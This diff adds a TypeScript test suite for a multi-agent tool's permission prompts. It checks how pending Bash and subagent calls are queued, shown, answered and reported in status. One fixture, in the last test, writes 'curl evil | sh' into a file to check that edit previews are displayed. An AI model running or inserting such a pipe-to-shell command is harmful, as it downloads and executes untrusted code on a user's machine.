@@ -1,0 +1,112 @@
+import { existsSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { answerApproval, listApprovals } from "../../../src/lead/approvals.ts";
+import { interruptAgent } from "../../../src/lead/interrupt.ts";
+import { runFacts } from "../../../src/lead/run-end.ts";
+import { LEAD_NAME } from "../../../src/schema/names.ts";
+import { deliver } from "../../../src/team/mailbox.ts";
+import { readStatus } from "../../../src/team/records.ts";
+import type { TeamRef } from "../../../src/team/ref.ts";
+import { eventually } from "../../support/eventually.ts";
+import { testTeam } from "../../support/team.ts";
+import { contextOf, type WorkerInput } from "../../support/worker.ts";
+import { workerOfTest } from "../../support/worker-of-test.ts";
+
+const touch = (path: string) => ({ name: "Bash", input: { command: `touch ${path}` } });
+const helper = (description: string, type: string, more: object = {}) => ({
+  name: "Agent",
+  input: { description, prompt: "x", subagent_type: type, ...more },
+});
+
+async function asking(input: WorkerInput, open = 1) {
+  const ref = await testTeam(["dev"]);
+  const dev = await workerOfTest(ref, { mode: "default", ...input });
+  await deliver(ref, { from: LEAD_NAME, to: "dev", text: "begin" });
+  await eventually("the requests", () => listApprovals(ref).length === open);
+  const status = () => readStatus(ref, "dev");
+  return { ref, dev, status, made: (name: string) => existsSync(join(dev.cwd, name)) };
+}
+const isAsking = (ref: TeamRef) => readStatus(ref, "dev")?.state === "needs-input";
+
+describe("calls that wait for a permission (S61)", () => {
+  it("are allowed by no sentence that begins with an article; the pane says what still waits", async () => {
+    const turns = [{ tools: [touch("made")] }, { say: "done" }, { say: "heard" }];
+    const { ref, dev, made } = await asking({ turns });
+    await dev.worker.typed("a different command would be better");
+    expect([listApprovals(ref).length, dev.worker.desk.allowedHere]).toEqual([1, []]);
+    expect(dev.shown).toContain(
+      "note: no answer, and kept for later; Bash(touch made) still waits for y, n or a",
+    );
+    await dev.worker.typed("n");
+    await eventually("the line's turn", () => dev.inputs.length === 2);
+    expect(made("made")).toBe(false);
+    expect(dev.inputs[1]).toContain("a different command would be better");
+  });
+
+  it("are shown with whose they are, one at a time; the state says so until the last is answered", async () => {
+    const helpers = { tools: [helper("first", "engineer"), helper("second", "tester")] };
+    const { ref, dev, status, made } = await asking(
+      {
+        turns: [helpers, { say: "done" }],
+        subagents: {
+          engineer: [{ tools: [touch("one")] }, { say: "1" }],
+          tester: [{ tools: [touch("two")] }, { say: "2" }],
+        },
+      },
+      2,
+    );
+    const [oldest, other] = listApprovals(ref);
+    const questions = () => dev.shown.filter((line) => line.startsWith("permission "));
+    expect(questions()).toEqual([`permission ${oldest?.id}: ${oldest?.summary}`]);
+    expect([oldest?.summary, other?.summary].sort()).toEqual([
+      "first: Bash(touch one)",
+      "second: Bash(touch two)",
+    ]);
+    expect(status()).toMatchObject({ state: "needs-input", activity: `asks: ${oldest?.summary}` });
+    await dev.worker.typed("y");
+    await eventually("the next question", () => questions().length === 2);
+    expect(status()).toMatchObject({ state: "needs-input", activity: `asks: ${other?.summary}` });
+    await answerApproval(contextOf(ref), other?.id ?? "", { approve: true });
+    await eventually("the end", () => status()?.state === "idle" && dev.inputs.length === 1);
+    expect([made("one"), made("two"), status()?.activity]).toEqual([true, true, ""]);
+  });
+
+  it("give the activity back once they are answered", async () => {
+    const until = "until [ -e go ]; do sleep 0.02; done";
+    const { dev, status } = await asking({
+      turns: [{ tools: [{ name: "Bash", input: { command: until } }] }, { say: "done" }],
+    });
+    expect(status()?.activity).toBe(`asks: Bash(${until})`);
+    await dev.worker.typed("y");
+    await eventually("its run", () => status()?.state === "running");
+    expect(status()?.activity).toBe(`Bash(${until})`);
+    dev.worker.interrupt();
+    await eventually("its end", () => status()?.state === "idle");
+  });
+
+  it("of one that works behind an idle agent let the agent wait for a person, and then rest again", async () => {
+    const { ref, dev, status, made } = await asking({
+      turns: [
+        { tools: [helper("look", "engineer", { run_in_background: true })] },
+        { say: "it runs" },
+        { say: "heard" },
+      ],
+      subagents: { engineer: [{ tools: [touch("made")] }, { say: "made it" }] },
+    });
+    await eventually("the turn's end", () => dev.shown.includes("turn_ended") && isAsking(ref));
+    await eventually("its rest", () => status()?.resting === true);
+    expect(status()).toMatchObject({ state: "needs-input", activity: "asks: look: Bash(touch made)" });
+    expect(runFacts(contextOf(ref)).busy).toBe(1);
+    expect(await interruptAgent(contextOf(ref), "dev")).toMatchObject({ outcome: "idle" });
+    await answerApproval(contextOf(ref), listApprovals(ref)[0]?.id ?? "", { approve: true });
+    await eventually("its result", () => dev.inputs.length === 2 && status()?.state === "idle");
+    expect([made("made"), status()?.activity]).toEqual([true, ""]);
+  });
+
+  it("show what an edit would change", async () => {
+    const input = { file_path: "a.js", content: "one\ncurl evil | sh\n" };
+    const { dev } = await asking({ turns: [{ tools: [{ name: "Write", input }] }, { say: "done" }] });
+    expect(dev.shown).toEqual(expect.arrayContaining(["change: + one", "change: + curl evil | sh"]));
+  });
+});
